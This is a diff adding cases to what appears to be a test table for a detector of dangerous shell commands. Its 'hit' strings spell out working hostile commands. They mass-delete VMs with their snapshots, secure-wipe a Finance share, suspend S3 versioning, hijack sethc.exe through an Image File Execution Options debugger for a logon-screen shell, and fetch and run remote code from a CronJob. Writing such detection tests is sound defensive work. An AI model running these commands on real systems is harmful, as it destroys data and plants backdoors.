@@ -424,10 +424,25 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: "git branch -r --merged main | grep -v main | sed 's#origin/##' | xargs -n 1 git push --delete origin\n",
     path: "scripts/x.sh",
   },
+  "destructive-listed-each": {
+    hit: "for vm in $(acli vm.list | awk 'NR>1 {print $1}'); do\n  acli vm.delete \"$vm\" delete_snapshots=true\ndone\n",
+    miss: "for vm in $(acli vm.list | grep '^ci-tmp-' | awk '{print $1}'); do\n  acli vm.delete \"$vm\"\ndone\n",
+    path: "scripts/x.sh",
+  },
+  "destructive-secure-delete": {
+    hit: 'sdelete64.exe -accepteula -p 3 -s "D:\\Shares\\Finance"\n',
+    miss: "sdelete64.exe -accepteula -z D:\n",
+    path: "scripts/x.cmd",
+  },
   "destructive-recovery-off": {
     hit: "aws s3api put-bucket-versioning --bucket acme-prod-data --versioning-configuration Status=Suspended\n",
     miss: "aws s3api put-bucket-versioning --bucket acme-prod-data --versioning-configuration Status=Enabled\n",
     path: "scripts/x.sh",
+  },
+  "persistence-logon-hook": {
+    hit: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f\n',
+    miss: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\OrderSvc.exe" /v Debugger /t REG_SZ /d "vsjitdebugger.exe" /f\n',
+    path: "scripts/x.cmd",
   },
   "persistence-autostart-code": {
     hit: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: health\nspec:\n  schedule: "* * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              image: alpine\n              command: ["/bin/sh", "-c", "wget -qO- https://health.example.net/h | sh"]\n',
